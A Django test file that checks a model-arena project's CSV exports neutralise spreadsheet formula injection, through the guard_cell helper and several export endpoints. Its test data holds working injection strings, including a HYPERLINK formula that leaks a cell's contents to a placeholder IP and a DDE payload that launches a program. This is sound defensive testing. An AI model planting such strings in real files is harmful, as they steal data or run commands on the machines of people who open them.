"""Whatever a stranger names a model, no spreadsheet runs it: in every CSV that the project writes."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from django.test import Client

from arena.csv_cells import guard_cell, unguard_cell
from arena.services import battles
from arena.services.pairing import Filters
from arena.services.review_export import export_rows, to_csv
from tests.arena.battles.scenes import publish_run, visitor
from tests.arena.reviews.scenes import make_people, make_run
from tests.leaderboard.reviews.test_agreement import review_run

FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"won")'
HOSTILE = (FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "'=1")


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_starts_no_formula_and_comes_back(text: str) -> None:
    assert guard_cell(text) == f"'{text}" and unguard_cell(guard_cell(text)) == text


@pytest.mark.parametrize(
    "value", [-1.5, 3, None, True, "-1.5", "+3", "1e-5", "-2.5E+3", "Model-7", "", "a=b", "'quoted'"]
)
def test_numbers_and_plain_texts_stay_what_they_are(value: Any) -> None:
    plain = value if value != "'quoted'" else "''quoted'"
    assert guard_cell(value) == plain


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def assert_harmless(text: str) -> None:
    found = [cell for cell in cells(text) if "HYPERLINK" in cell]
    assert found and all(cell.startswith("'=") for cell in found)
    assert not [cell for cell in cells(text) if re.match(r"[=@\t\r]|[+-](?![\d.])", cell)]


@pytest.mark.django_db
def test_no_file_of_ours_starts_a_formula(client: Client, tmp_path: Path) -> None:
    run = make_run(entrant="hostile", benchmark="coin_flip", organisation=FORMULA)
    run.entrant.name = FORMULA
    run.entrant.save()
    review_run(run, make_people("ada"), ["1", "0"])
    assert_harmless(client.get("/b/coin_flip.csv").content.decode())
    assert_harmless(client.get("/review/agreement/models.csv").content.decode())
    assert_harmless(to_csv(export_rows()))
    publish_run(FORMULA), publish_run("Beta")
    voter = visitor("cookie")
    serving = battles.serve_battle(voter, Filters("coin_flip", "", ""))
    assert serving is not None
    battles.cast_vote(voter, serving.battle.uuid, "left")
    call_command("export_votes", path=tmp_path / "votes.csv", stdout=io.StringIO())
    assert_harmless((tmp_path / "votes.csv").read_text(encoding="utf-8"))


def test_no_other_code_writes_csv() -> None:
    """A new file of cells must be added to the story above."""
    root = Path(__file__).resolve().parent.parent
    writers = {
        path.name
        for package in ("arena", "leaderboard", "scoring")
        for path in (root / package).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)", path.read_text(encoding="utf-8"))
    }
    assert writers == {"board_exports.py", "agreement.py", "review_export.py", "export_votes.py"}
